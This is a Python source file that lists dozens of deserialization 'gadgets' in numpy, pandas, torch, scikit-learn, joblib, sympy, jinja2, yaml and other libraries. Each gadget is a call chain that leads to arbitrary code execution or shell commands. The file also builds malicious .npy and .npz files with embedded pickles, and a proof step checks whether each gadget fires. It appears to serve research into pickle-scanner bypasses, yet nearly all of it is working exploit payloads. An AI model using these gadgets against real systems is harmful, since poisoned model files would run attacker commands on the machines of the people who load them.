"""Gadgets of machine-learning libraries: their own loaders, evaluators and runners."""

import io
import pickle
import zipfile

from assemble import CODE, MARKER, PORT, SHELL, Build, call, gadget, new, program, ref

NESTED = program(call("timeit:timeit", CODE))
SYSTEM = f"__import__('os').system('{SHELL}')"


def npy_of_object(payload: bytes) -> bytes:
    """A .npy file whose elements are a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header.encode() + payload


def npz_of_object(payload: bytes) -> bytes:
    """The same inside .npz."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr(zipfile.ZipInfo("weights.npy"), npy_of_object(payload))
    return out.getvalue()


def bytes_io(raw):
    """A file in memory."""
    return call("io:BytesIO", raw)


def numpy_gadgets():
    yield "f2py-getlincoef", call("numpy.f2py.crackfortran:getlincoef", SYSTEM, {})
    yield "f2py-eval-length", call("numpy.f2py.crackfortran:_eval_length", SYSTEM, {})
    yield "f2py-scalar", call("numpy.f2py.crackfortran:_eval_scalar", SYSTEM, {})
    yield "f2py-param", call("numpy.f2py.crackfortran:param_eval", SYSTEM, {}, {})
    yield "f2py-map", call("numpy.f2py.capi_maps:load_f2cmap_file", "map.txt"), {"map.txt": f"{{'a': {CODE}}}".encode()}
    yield "testing-runstring", call("numpy.testing:runstring", CODE, {})
    yield "testing-measure", call("numpy.testing:measure", CODE)
    yield "testing-rundocs", call("numpy.testing:rundocs", "x.py", False), {
        "x.py": f'"""\n>>> {CODE}\n"""\n'.encode()}
    yield "vectorize", call(call("numpy:vectorize", ref("timeit:timeit")), CODE)
    yield "frompyfunc", call(call("numpy:frompyfunc", ref("timeit:timeit"), 1, 1), CODE)
    yield "apply-along-axis", call("numpy:fromfunction", call("functools:partial", ref("timeit:timeit"), CODE), ())
    yield "piecewise", call(
        "numpy:fromiter", call("builtins:map", ref("timeit:timeit"), [CODE]), "f8")
    yield "load-file", call("numpy:load", "n.npy", None, True), {"n.npy": npy_of_object(NESTED)}
    yield "read-array", call("numpy.lib.format:read_array", bytes_io(npy_of_object(NESTED)), True)
    yield "npz-in-memory", call("operator:getitem", call("numpy:load", bytes_io(npz_of_object(NESTED)), None, True), "weights")
    yield "load-pickled", call("numpy:load", bytes_io(NESTED), None, True)
    yield "save", call("numpy:savetxt", MARKER, [1.0])
    yield "tofile", call("numpy:ndarray.tofile", call("numpy:array", [1.0]), MARKER)
    yield "memmap", call("numpy:memmap", MARKER, "float32", "w+", 0, (1,))
    yield "ctypes-library", call(
        call("operator:getitem", call("numpy.ctypeslib:load_library", "libc.so.6", "/lib/x86_64-linux-gnu"), "system"),
        SHELL.encode())
    
    yield "builtins-of-module", call(call("builtins:dict.get", ref("numpy:__builtins__"), "exec"), CODE)


def pandas_gadgets():
    yield "read-pickle", call("pandas:read_pickle", bytes_io(NESTED))
    yield "pickle-compat", call("pandas.compat.pickle_compat:Unpickler.load", call(
        "pandas.compat.pickle_compat:Unpickler", bytes_io(NESTED)))
    
    
    yield "apply", call("pandas:Series.apply", call("pandas:Series", [CODE]), ref("timeit:timeit"))
    yield "to-csv", call("pandas:DataFrame.to_csv", call("pandas:DataFrame", {"a": [1]}), MARKER)
    yield "get-handle", call("pandas.io.common:get_handle", MARKER, "w")
    yield "read-json-url", call("pandas:read_json", f"http://127.0.0.1:{PORT}/w.json")


def torch_gadgets():
    yield "load-nested", call(
        "torch.serialization:_legacy_load", bytes_io(NESTED), None, ref("torch.serialization:pickle"))
    yield "storage-bytes", call("torch.storage:_load_from_bytes", NESTED)
    yield "config-module", call("torch.utils._config_module:ConfigModule.load_config", ref("torch._inductor:config"), NESTED)
    yield "hub-local", call("torch.hub:_load_local", "repo", "f"), {"repo/hubconf.py": CODE.encode() + b"\ndef f(): pass\n"}
    yield "hub-import", call("torch.hub:_import_module", "m", "x.py"), {"x.py": CODE.encode()}
    yield "exec-wrapper", call("torch.jit.unsupported_tensor_ops:execWrapper", CODE, {}, {})
    yield "collect-env", call("torch.utils.collect_env:run", SHELL)
    yield "collect-env-version", call("torch.utils.collect_env:run_and_read_all", ref("torch.utils.collect_env:run"), SHELL)
    yield "graph-module", call("torch.fx.graph_module:reduce_graph_module", {"_code": f"def forward(self): pass\n{CODE}\n"}, "")
    yield "graph-forward", call("torch.fx.graph_module:_forward_from_src", f"{CODE}\ndef forward(s): pass", {})
    yield "graph-exec", call("torch.fx.graph_module:_exec_with_source", CODE, {})
    yield "shape-guards", call(
        "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression",
        new("torch.fx.experimental.symbolic_shapes:ShapeEnv"), SYSTEM, [])
    
    
    yield "from-file", call("torch:from_file", MARKER, True, 4)
    yield "save", call("torch:save", [1], MARKER)
    yield "storage-from-file", call("torch.storage:UntypedStorage.from_file", MARKER, True, 16)
    yield "ops-library", call(
        "torch.utils._pytree:tree_map", ref("timeit:timeit"), [CODE])
    yield "tree-unflatten", call("torch.utils._pytree:tree_map_only", ref("builtins:str"), ref("timeit:timeit"), [CODE])
    yield "pickle-storage-type", call("torch._tensor:_rebuild_from_type", ref("timeit:timeit"), ref("torch:Tensor"), (CODE,), {})
    yield "rebuild-type-v2", call("torch._tensor:_rebuild_from_type_v2", ref("timeit:timeit"), ref("torch:Tensor"), (CODE,), {})
    yield "rebuild-parameter", call(
        "torch.nn.parallel.parallel_apply:threading.Timer.run", call("threading:Timer", 0, ref("timeit:timeit"), [CODE]))
    yield "through-alias", call("torch.serialization:os.system", SHELL)
    yield "compile-file", call("torch._inductor.cpp_builder:run_compile_cmd", f"sh -c '{SHELL}'", ".")
    yield "inline-source", call("torch._inductor.codecache:PyCodeCache.load", CODE)
    yield "sequential-call", call("torch.utils.checkpoint:checkpoint", ref("timeit:timeit"), CODE)
    yield "vmap-wrap", call(
        call("torch._dynamo.external_utils:wrap_inline", ref("timeit:timeit")), CODE)


def science_gadgets():
    yield "sklearn-function-transformer", call(
        "sklearn.preprocessing:FunctionTransformer.transform", call("sklearn.preprocessing:FunctionTransformer", ref("timeit:timeit")), CODE)
    yield "sklearn-svmlight", call("sklearn.datasets:dump_svmlight_file", [[1.0]], [1], MARKER)
    yield "sklearn-vectorizer", call(
        "sklearn.feature_extraction.text:CountVectorizer.fit",
        with_attributes("sklearn.feature_extraction.text:CountVectorizer", {"analyzer": ref("timeit:timeit")}), [CODE])
    yield "sklearn-parallel", call("sklearn.utils.parallel:_FuncWrapper.__call__", call(
        "sklearn.utils.parallel:_FuncWrapper", ref("timeit:timeit")), CODE)
    yield "joblib-load", call("joblib:load", bytes_io(NESTED))
    yield "joblib-numpy-pickle", call("joblib.numpy_pickle:load", "j.pkl"), {"j.pkl": NESTED}
    yield "joblib-dump", call("joblib:dump", [1], MARKER)
    yield "joblib-loky-spawn", call("joblib.externals.loky.backend.spawn:prepare", {"init_main_from_path": "x.py"}), {"x.py": CODE.encode()}
    yield "joblib-memory-func", call("joblib.memory:NotMemorizedFunc.__call__", call(
        "joblib.memory:NotMemorizedFunc", ref("timeit:timeit")), CODE)
    yield "joblib-delayed", call("joblib.externals.loky.process_executor:_CallItem.__call__", call(
        "joblib.externals.loky.process_executor:_CallItem", 1, ref("timeit:timeit"), (CODE,), {}))
    
    yield "cloudpickle-subimport-called", call(
        call(call("operator:attrgetter", "system"), call("cloudpickle.cloudpickle:subimport", "posix")), SHELL)
    
    yield "dill-loads", call("dill:loads", NESTED)
    yield "dill-eval-repr", call("dill:load", bytes_io(NESTED))
    yield "scipy-minimise", call(
        "builtins:list", call("scipy._lib._util:MapWrapper.__call__", call("scipy._lib._util:MapWrapper"), ref("timeit:timeit"), [CODE]))
    yield "scipy-savemat", call("scipy.io.wavfile:write", MARKER, 8, call("numpy:zeros", 4))
    yield "sympy-sympify", call("sympy:sympify", SYSTEM)
    yield "sympy-parse", call("sympy.parsing.sympy_parser:eval_expr", SYSTEM, {}, {})
    yield "sympy-lambdify", call(call("sympy:lambdify", [], SYSTEM))
    yield "jinja-render", call("jinja2:Template.render", call(
        "jinja2:Template", "{{ cycler.__init__.__globals__.os.system('" + SHELL + "') }}"))
    yield "patsy-formula", call(
        "patsy.eval:EvalEnvironment.eval", call("patsy.eval:EvalEnvironment", [{}], 0), SYSTEM)
    
    yield "formulaic-matrix", call(
        "formulaic.utils.stateful_transforms:stateful_eval", SYSTEM, {}, {}, {}, None)
    yield "numba-unpickle", call("numba.core.serialize:_numba_unpickle", 1, NESTED, b"h")
    yield "srsly-loads", call("srsly:pickle_loads", NESTED)
    yield "smart-open", call("smart_open:open", MARKER, "w")
    yield "fsspec-open", call("fsspec.implementations.local:LocalFileSystem.touch", call("fsspec.implementations.local:LocalFileSystem"), MARKER)
    yield "filelock", call("filelock:FileLock.acquire", call("filelock:FileLock", MARKER))
    yield "requests-get", call("requests:get", f"http://127.0.0.1:{PORT}/w")
    yield "urllib3-request", call("urllib3:request", "GET", f"http://127.0.0.1:{PORT}/w")
    yield "yaml-load", call("yaml:unsafe_load", f"!!python/object/apply:timeit.timeit [\"{CODE}\"]")
    yield "setuptools-spawn", call("setuptools._distutils.spawn:spawn", ["sh", "-c", SHELL])
    yield "pip-subprocess", call(
        "pip:main", ["--log", MARKER, "config", "list"])
    yield "networkx-argmap", call(
        "networkx:write_adjlist", call("networkx:Graph"), MARKER)
    yield "statsmodels-load", call("statsmodels.iolib.smpickle:load_pickle", "j.pkl"), {"j.pkl": NESTED}
    yield "onnx-load", call("h5py:File", MARKER, "w")
    yield "polars-deserialize", call(
        "polars:Series.map_elements", call("polars:Series", [CODE]), ref("timeit:timeit"))
    yield "pydantic-parse", call(
        "pydantic.deprecated.parse:pickle.loads", NESTED)
    yield "catalogue-import", call(
        "gensim.utils:unpickle", "j.pkl"), {"j.pkl": NESTED}
    yield "gensim-save", call("gensim.utils:pickle", [1], MARKER)
    yield "timm-checkpoint", call(
        "torchvision.datasets.cifar:pickle.loads", NESTED)
     
    yield "xarray-pickle", call("xarray.backends.file_manager:CachingFileManager.acquire", call(
        "xarray.backends.file_manager:CachingFileManager", ref("timeit:timeit"), CODE))
    yield "accelerate-load", call(
        "accelerate.utils.other:save", [1], MARKER)


def with_attributes(path, keywords):
    """A class instance with some attributes set by BUILD."""
    return Build(call(path), keywords)


def all():
    """Every gadget of this file; the proof sorts out the dead ones."""
    families = {
        "numpy": numpy_gadgets, "pandas": pandas_gadgets, "torch": torch_gadgets, "science": science_gadgets,
    }
    for family, source in families.items():
        for name, *rest in source():
            node = rest[0]
            if isinstance(node, tuple):
                node, rest = node[0], [node[0], *node[1:]]
            beside = rest[1] if len(rest) > 1 else {}
            proof = "connect" if any(w in name for w in ("-url", "requests-get", "urllib3")) else "marker"
            yield gadget(f"{family}-{name}", f"library-{family}", node, beside=beside, proof=proof)
